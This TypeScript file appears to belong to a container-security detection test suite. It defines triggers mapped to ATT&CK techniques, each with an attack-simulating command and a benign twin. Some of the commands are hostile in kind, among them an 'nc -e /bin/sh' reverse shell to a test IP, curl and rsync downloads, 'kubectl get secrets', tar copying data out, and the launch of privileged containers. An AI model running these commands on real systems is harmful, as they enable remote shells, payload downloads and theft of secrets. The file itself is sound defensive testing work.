/** What runs inside containers: drift, tools, exfiltration, container launch settings (T1609, T1610, T1105…). */
import type { Trigger } from '../trigger';

const POLICY = 'a deployment policy (admission control decides which containers may run how); Lanner reports what happens inside them';

export const containers: readonly Trigger[] = [
  {
    id: 'privileged-container-started',
    technique: 'T1610',
    what: 'a --privileged container starts (pid 1 execs)',
    stock: ['Launch Privileged Container'],
    defaults: [],
    gap: { kind: 'out-of-scope', reason: POLICY },
    act: (env) => env.container('exec /tact noop', { extra: ['--privileged'] }),
    benign: (env) => env.container('exec /tact noop'),
  },
  {
    id: 'capable-container-started',
    technique: 'T1610',
    what: 'a container with CAP_SYS_ADMIN starts',
    stock: ['Launch Excessively Capable Container'],
    defaults: [],
    gap: { kind: 'out-of-scope', reason: POLICY },
    act: (env) => env.container('exec /tact noop', { extra: ['--cap-add', 'SYS_ADMIN'] }),
    benign: (env) => env.container('exec /tact noop'),
  },
  {
    id: 'sensitive-mount-container-started',
    technique: 'T1610',
    what: "a container with the host's /proc mounted starts",
    stock: ['Launch Sensitive Mount Container'],
    defaults: [],
    gap: { kind: 'out-of-scope', reason: POLICY },
    act: (env) => env.container('exec /tact noop', { extra: ['-v', '/proc:/hostproc:ro'] }),
    // An ordinary container: its first exec waits for podman to describe it (state.containers.
    // first_exec_wait_ms), or the rule's `not container.mount.dest[...] in (...)` tests, with no
    // mounts to read, would raise it on every container start.
    benign: (env) => env.container('exec /tact noop'),
  },
  {
    id: 'container-started-as-root-from-unlisted-image',
    technique: 'T1610',
    what: 'a container of an image outside the allowed list starts as root',
    stock: ['Launch Disallowed Container', 'Container Run as Root User'],
    defaults: [],
    gap: { kind: 'out-of-scope', reason: POLICY },
    act: (env) => env.container('exec /tact noop'),
  },
  {
    id: 'drop-and-execute-in-container',
    technique: 'T1105',
    what: 'a container copies a binary to /tmp (written with an executable mode), makes it executable and runs it',
    stock: ['Drop and execute new binary in container', 'Container Drift Detected (chmod)', 'Container Drift Detected (open+create)'],
    defaults: ['Binary not in the container image executed'],
    act: (env) => env.container('/bin/cp /tact /tmp/dropped && /bin/chmod 755 /tmp/dropped && /tmp/dropped noop'),
    benign: (env) => env.container('/tact noop'),
    // The runtime's own set-up (chmod of /dev, creating /etc/hostname) trips the two drift rules
    // Falco ships disabled for that reason: the twin is held to the exec rules only.
    quietRules: ['Drop and execute new binary in container', 'Binary not in the container image executed'],
  },
  {
    id: 'package-manager-in-container',
    technique: 'T1072',
    what: 'apk add in a running container',
    stock: ['Launch Package Management Process in Container'],
    defaults: ['Package manager run in container'],
    act: (env) => env.container('/sbin/apk add curl'),
  },
  {
    id: 'netcat-exec-in-container',
    technique: 'T1059',
    what: 'nc -e /bin/sh in a container (a program named nc)',
    stock: ['Netcat Remote Code Execution in Container', 'Launch Suspicious Network Tool in Container'],
    defaults: ['Network tool executed'],
    act: (env) => env.container('/usr/bin/nc -e /bin/sh 203.0.113.7 4444'),
    benign: (env) => env.container('/usr/bin/nc -z 203.0.113.7 4444'),
    quietRules: ['Netcat Remote Code Execution in Container'],
  },
  {
    id: 'packet-capture-in-container',
    technique: 'T1040',
    what: 'tcpdump (a program named so) in a container',
    stock: ['Launch Suspicious Network Tool in Container'],
    defaults: ['Network tool executed'],
    act: (env) => env.container('/usr/bin/tcpdump -i any'),
  },
  {
    id: 'remote-copy-tool-in-container',
    technique: 'T1105',
    what: 'an application in a container runs sh -c rsync (a program named so)',
    stock: ['Launch Remote File Copy Tools in Container'],
    defaults: ['File transfer tool run in container'],
    act: (env) => env.container("/act spawn /bin/sh -c '/usr/bin/rsync rsync://203.0.113.7/data /tmp/'"),
    // The entrypoint script itself fetching something at start-up.
    benign: (env) => env.container('/usr/bin/rsync rsync://203.0.113.7/data /tmp/'),
    quietRules: ['File transfer tool run in container'],
  },
  {
    id: 'download-in-container',
    technique: 'T1105',
    what: 'an application in a container runs sh -c curl -o (a program named curl)',
    stock: ['Launch Ingress Remote File Copy Tools in Container'],
    defaults: ['File transfer tool run in container'],
    act: (env) => env.container("/act spawn /bin/sh -c '/usr/bin/curl -o /tmp/x http://203.0.113.7/x'"),
  },
  {
    id: 'kubectl-in-container',
    technique: 'T1609',
    what: 'kubectl (a program named so) run in a container',
    stock: ['Kubernetes Client Tool Launched in Container'],
    defaults: ['Kubernetes client run in container'],
    act: (env) => env.container('/usr/bin/kubectl get secrets'),
    // An administrator's kubectl on the node itself.
    benign: (env) => env.host(env.named('/bin/true', 'kubectl'), ['get', 'secrets']),
  },
  {
    id: 'network-tool-under-npm',
    technique: 'T1195.002',
    what: 'npm (a program named so) starts nc in a container: a malicious install script',
    stock: ['Network Tool Executed During NPM Package Install'],
    defaults: ['Network tool executed'],
    act: (env) => env.container('/usr/bin/npm spawn /usr/bin/nc -z 203.0.113.7 80'),
  },
  {
    id: 'tar-exfiltration-from-container',
    technique: 'T1020',
    what: 'podman exec of tar cf - on application data (what kubectl cp does)',
    stock: ['Exfiltrating Artifacts via Kubernetes Control Plane'],
    defaults: ['Files copied out of container with tar'],
    act: (env) => env.containerExec('echo secret > /tmp/data', ['/bin/tar', 'cf', '-', '/tmp/data']),
    // The container's own backup script archiving its data.
    benign: (env) => env.container("echo secret > /tmp/data; sh -c '/bin/tar -cf /dev/null /tmp/data'"),
  },
  {
    id: 'packet-socket-in-container',
    technique: 'T1557.002',
    what: 'socket(AF_PACKET) in a container with CAP_NET_RAW',
    stock: ['Packet socket created in container'],
    defaults: ['Raw packet socket opened in container'],
    act: (env) => env.container('/tact packet-socket', { extra: ['--cap-add', 'NET_RAW'] }),
    benign: (env) => env.container('/tact inet-socket', { extra: ['--cap-add', 'NET_RAW'] }),
  },
  {
    id: 'socket-on-stdout-in-container',
    technique: 'T1059',
    what: 'a container process duplicates an internet socket onto its stdout (reverse shell plumbing)',
    stock: ['Redirect STDOUT/STDIN to Network Connection in Container'],
    defaults: ['Network socket redirected to standard input or output'],
    act: (env) => env.container('/tact dup-socket'),
    benign: (env) => env.container('/tact dup-file'),
  },
];
